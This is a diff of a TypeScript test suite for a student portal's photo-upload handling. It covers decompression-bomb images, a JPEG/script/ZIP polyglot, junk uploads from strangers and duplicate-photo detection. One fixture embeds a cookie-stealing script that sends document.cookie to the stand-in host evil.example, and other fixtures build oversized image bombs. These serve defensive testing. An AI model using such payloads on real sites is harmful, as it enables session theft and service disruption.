@@ -7,27 +7,23 @@ import { chunk, header, png, withJpegSize } from '../../tests/photos/pictures.ts
 import { comparisonsOf } from '../src/operator/comparisons.ts'
 import { Dossier } from '../src/operator/dossier.ts'
 import { oneCampus } from './setup/campus.ts'
-import { base64Photograph, photograph } from './setup/photographs.ts'
+import { photograph } from './setup/photographs.ts'
 import { photosIn } from './setup/stored.ts'
 import { enrolAndConfirm, from, students } from './setup/visitor.ts'
 
 /** Pictures that are more, or cost more, than a photograph; and whoever sends a right one meanwhile. */
 
-const { server, visitor } = await oneCampus([])
+const { server, visitor } = await oneCampus()
 const { aminata, moussa, fatoumata } = students
 const [stranger, home] = [from('198.51.100.66'), from('198.51.100.7')]
 const script = Buffer.from('<script>fetch("//evil.example/"+document.cookie)</script>')
 const zip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(40, 'z'), Buffer.from('PK\x05\x06')])
 
-const send = (matricule: string, type: string, image: Buffer, options = home) =>
-  visitor.call('files/upload', { matricule, type, image: image.toString('base64') }, options)
+const send = (matricule: string, type: string, image: Buffer, where = home) =>
+  visitor.send({ matricule }, type, image, where)
 const storedOf = async (matricule: string) =>
   (await photosIn(server.database)).filter(photo => photo.matricule === matricule)
-
-async function told(event: string): Promise<number> {
-  const metrics = await (await fetch(`${server.address}/metrics`)).text()
-  return Number(new RegExp(`^portal_security_events_total\\{event="${event}"\\} (\\d+)$`, 'm').exec(metrics)?.[1])
-}
+const told = (event: string) => server.metric(`portal_security_events_total{event="${event}"}`)
 
 test('pictures that take gigabytes to be seen are refused by their headers, with what to do', async () => {
   const { matricule } = aminata
@@ -50,6 +46,7 @@ test('pictures that take gigabytes to be seen are refused by their headers, with
       12_000,
       9000,
     ),
+    'a PNG of billions of pixels': png(headOf(60_000, 60_000, 8, 2, 0), data, end),
     'a JPEG of 144 megapixels': withJpegSize(await field.clone().jpeg().toBuffer(), 12_000, 12_000),
   }
   const before = await told('imageBomb')
@@ -71,7 +68,7 @@ test('what a phone’s camera and the portal write is taken: 108 megapixels, pro
     await field(6000, 4000).toColourspace('rgb16').png().toBuffer(),
     await field(2448, 3264).png({ progressive: true }).toBuffer(),
   ]
-  for (const picture of pictures) expect((await send(matricule, 'carteid', picture)).json.status).toBe(1)
+  for (const picture of pictures) expect((await send(matricule, 'carteid', picture)).status).toBe(1)
 }, 120_000)
 
 test('a photograph that is also a script and an archive is stored as the photograph alone, and a repeat is known', async () => {
@@ -83,8 +80,8 @@ test('a photograph that is also a script and an archive is stored as the photogr
   const [kept] = (await storedOf(matricule)).filter(({ type }) => type === 'simcard')
   expect(kept?.bytes.equals(uncompressed)).toBe(true)
   await server.operate({ name: 'accept', matricule, type: 'simcard' })
-  expect((await send(matricule, 'simcard', hostile)).json.status).toBe(1)
-  expect((await send(matricule, 'simcard', await photograph(4))).json.status).toBe(0)
+  expect((await send(matricule, 'simcard', hostile)).status).toBe(1)
+  expect((await send(matricule, 'simcard', await photograph(4))).status).toBe(0)
 })
 
 test('a stranger’s junk does not use up the tries of a student', async () => {
@@ -96,22 +93,21 @@ test('a stranger’s junk does not use up the tries of a student', async () => {
   expect(new Set(junk.map(({ http }) => http))).toEqual(new Set([422]))
   expect(await told('junkUploads')).toBeGreaterThan(before + 50)
   for (const [seed, type] of documentTypes.entries())
-    expect((await send(matricule, type, await photograph(10 + seed))).json.status, type).toBe(1)
+    expect((await send(matricule, type, await photograph(10 + seed))).status, type).toBe(1)
   // Nor those of whoever stands behind the same address: what is a photograph is always one.
-  expect((await send(matricule, 'attest', await photograph(20), stranger)).json.status).toBe(1)
+  expect((await send(matricule, 'attest', await photograph(20), stranger)).status).toBe(1)
 })
 
 test('one photograph as two documents is taken, and the verifier is told', async () => {
   const { matricule } = fatoumata
   await enrolAndConfirm(server, visitor, fatoumata, '76000003')
   const before = await told('samePhotograph')
-  const image = await base64Photograph(30)
-  for (const type of ['attest', 'carteid', 'attest'])
-    expect((await visitor.call('files/upload', { matricule, type, image }, home)).json.status).toBe(1)
+  const image = await photograph(30)
+  for (const type of ['attest', 'carteid', 'attest']) expect((await send(matricule, type, image)).status).toBe(1)
   expect(await told('samePhotograph')).toBe(before + 1)
   const exported = await server.operate({ name: 'export', matricule })
   const dossier = v.parse(Dossier, JSON.parse(String(exported?.files.get('dossier.json'))))
   expect(comparisonsOf('carteid', dossier)).toContain('The same photograph was sent as attest too.')
   const other = await send(matricule, 'simcard', await photograph(31))
-  expect([other.json.status, await told('samePhotograph')]).toEqual([1, before + 1])
+  expect([other.status, await told('samePhotograph')]).toEqual([1, before + 1])
 })
